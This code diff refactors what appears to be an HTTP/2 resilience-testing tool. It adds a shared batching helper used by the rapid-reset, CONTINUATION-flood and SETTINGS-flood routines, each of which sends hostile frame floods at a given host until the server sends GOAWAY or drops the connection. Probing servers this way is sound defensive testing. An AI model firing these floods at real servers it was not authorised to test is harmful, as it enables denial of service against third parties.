@@ -33,6 +33,7 @@ import struct
 import threading
 import time
 from collections import Counter
+from collections.abc import Callable
 from dataclasses import dataclass, field
 from typing import Any
 
@@ -418,6 +419,26 @@ def _result(cls: type, wire: H2Wire, **extra: Any) -> Any:
     return result
 
 
+def _flood(wire: H2Wire, total: int, batch: int, deadline: float,
+           units: Callable[[int, int], tuple[bytes, int]], read: bool = True) -> int:
+    """Send `total` units in batches (`units(sent, count)` gives a batch's bytes and its
+    frame count) until the server ends the connection, sends GOAWAY or the deadline
+    passes; returns the units sent."""
+    sent = 0
+    while sent < total and not wire.dead and wire.outcome.goaway_code is None:
+        count = min(batch, total - sent)
+        data, frames = units(sent, count)
+        if not wire.send(data, frames=frames, deadline=deadline):
+            break
+        sent += count
+        wire.mark(sent)
+        if read:
+            wire.pump(0)
+        if time.monotonic() > deadline:
+            break
+    return sent
+
+
 def rapid_reset(host: str, port: int, pairs: int = 2000, *, grpc: bool = True,
                 path: str | None = None, batch: int = 20, linger: float = 2.5,
                 deadline_s: float = 20.0) -> RapidResetResult:
@@ -432,22 +453,16 @@ def rapid_reset(host: str, port: int, pairs: int = 2000, *, grpc: bool = True,
     method = "POST" if grpc else "GET"
     target = path or (GRPC_METHOD if grpc else "/hostile/rapid-reset")
     headers = request_headers(wire.authority, target, method, grpc)
-    deadline = time.monotonic() + deadline_s
-    sent = 0
-    while sent < pairs and not wire.dead and wire.outcome.goaway_code is None:
+
+    def pairs_of(sent: int, count: int) -> tuple[bytes, int]:
         chunk = bytearray()
-        count = min(batch, pairs - sent)
         for index in range(count):
             stream = 2 * (sent + index) + 1
             chunk += wire.headers(stream, headers, end_stream=not grpc)
             chunk += rst_stream(stream, CANCEL)
-        if not wire.send(bytes(chunk), frames=2 * count, deadline=deadline):
-            break
-        sent += count
-        wire.mark(sent)
-        wire.pump(0)
-        if time.monotonic() > deadline:
-            break
+        return bytes(chunk), 2 * count
+
+    sent = _flood(wire, pairs, batch, time.monotonic() + deadline_s, pairs_of)
     wire.finish(linger)
     return _result(RapidResetResult, wire, pairs_sent=sent)
 
@@ -472,15 +487,8 @@ def continuation_flood(host: str, port: int, frames: int = 10000, *, batch: int 
     sent = 0
     if wire.send(first, deadline=deadline):
         empty = frame(CONTINUATION, 0, 1)
-        while sent < frames and not wire.dead and wire.outcome.goaway_code is None:
-            count = min(batch, frames - sent)
-            if not wire.send(empty * count, frames=count, deadline=deadline):
-                break
-            sent += count
-            wire.mark(sent)
-            wire.pump(0)
-            if time.monotonic() > deadline:
-                break
+        sent = _flood(wire, frames, batch, deadline,
+                      lambda _, count: (empty * count, count))
     wire.finish(linger)
     return _result(FloodResult, wire, flood_frames_sent=sent)
 
@@ -494,19 +502,9 @@ def settings_flood(host: str, port: int, frames: int = 20000, *, read_acks: bool
     outbound queue: a server that caps queued control frames closes the connection.
     """
     wire = H2Wire(host, port, reading=read_acks, auto_ack=read_acks)
-    deadline = time.monotonic() + deadline_s
     one = settings_frame({SETTINGS_INITIAL_WINDOW_SIZE: 65535})
-    sent = 0
-    while sent < frames and not wire.dead and wire.outcome.goaway_code is None:
-        count = min(batch, frames - sent)
-        if not wire.send(one * count, frames=count, deadline=deadline):
-            break
-        sent += count
-        wire.mark(sent)
-        if read_acks:
-            wire.pump(0)
-        if time.monotonic() > deadline:
-            break
+    sent = _flood(wire, frames, batch, time.monotonic() + deadline_s,
+                  lambda _, count: (one * count, count), read=read_acks)
     wire.finish(linger)
     return _result(FloodResult, wire, flood_frames_sent=sent)
 
